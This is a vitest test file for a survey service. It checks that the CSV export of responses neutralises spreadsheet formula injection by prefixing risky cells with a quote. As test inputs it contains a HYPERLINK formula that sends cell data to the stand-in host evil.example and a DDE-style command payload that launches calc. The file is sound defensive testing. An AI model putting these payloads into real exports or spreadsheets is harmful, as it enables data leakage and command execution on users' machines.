import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Touchpoint } from '../src/touchpoint';
import { signUp, TestClient } from './support/client';
import { startTestTouchpoint } from './support/test-touchpoint';

let touchpoint: Touchpoint;
let app: FastifyInstance;
let admin: TestClient;
let anonymous: TestClient;

beforeAll(async () => {
  touchpoint = await startTestTouchpoint();
  app = touchpoint.app as FastifyInstance;
  admin = (await signUp(app)).client;
  anonymous = new TestClient(app);
});
afterAll(async () => {
  await touchpoint.stop();
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

async function surveyWithAnswer(name: string, why: string, hidden: string): Promise<string> {
  const created = await admin.post('/api/v1/surveys', {
    name,
    defaultLanguage: 'en',
    hiddenFields: ['ref'],
    questions: [
      { id: 'q1', type: 'nps', text: { en: 'How likely are you to recommend us?' }, required: true },
      { id: 'why', type: 'open_text', text: { en: 'Why?' } },
    ],
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  const id = created.body.id as string;
  expect((await admin.post(`/api/v1/surveys/${id}/publish`)).status).toBe(200);
  const submitted = await anonymous.request(
    'POST',
    `/api/v1/public/surveys/${id}/responses`,
    { answers: { q1: 0, why }, hiddenFields: { ref: hidden }, finished: true },
    { 'idempotency-key': `csv-${id}` },
  );
  expect(submitted.status, JSON.stringify(submitted.body)).toBeLessThan(300);
  return id;
}

async function exportRows(query: string): Promise<Record<string, string>[]> {
  const response = await admin.get(`/api/v1/responses/export.csv?${query}`);
  expect(response.status).toBe(200);
  return parse(String(response.body), { bom: true, columns: true }) as Record<string, string>[];
}

// Issue 15: what customers type must not become a live formula in the team's spreadsheet (CSV injection).
describe('CSV export neutralises spreadsheet formulas', () => {
  it('prefixes text cells that start with = + - @ tab or CR with a quote, and keeps scores numeric', async () => {
    const surveyId = await surveyWithAnswer('=Survey name', HYPERLINK, '@SUM(1+1)');
    const response = await admin.get(`/api/v1/responses/export.csv?surveyId=${surveyId}`);
    const raw = String(response.body);
    // Quoted as a whole and prefixed: no cell of the file starts with a formula character.
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    const [row] = await exportRows(`surveyId=${surveyId}`);
    expect(row?.why).toBe(`'${HYPERLINK}`);
    expect(row?.['hidden.ref']).toBe("'@SUM(1+1)");
    expect(row?.survey_name).toBe("'=Survey name");
    // A score is a number, not text a customer wrote: it stays as it is.
    expect(row?.q1).toBe('0');
    expect(row?.nps_score).toBe('0');
    for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each([
    ['+', '+1+cmd|" /C calc"!A0'],
    ['-', '-2+3'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('escapes a cell that starts with %s', async (_label, text) => {
    const surveyId = await surveyWithAnswer(`Survey ${_label}`, text, 'ok');
    const [row] = await exportRows(`surveyId=${surveyId}`);
    expect(row?.why).toBe(`'${text}`);
    expect(row?.['hidden.ref']).toBe('ok');
  });

  it('leaves ordinary text as it was written', async () => {
    const surveyId = await surveyWithAnswer('Plain', 'Great service - thanks! a=b', 'ORD-1');
    const [row] = await exportRows(`surveyId=${surveyId}`);
    expect(row?.why).toBe('Great service - thanks! a=b');
    expect(row?.['hidden.ref']).toBe('ORD-1');
  });
});
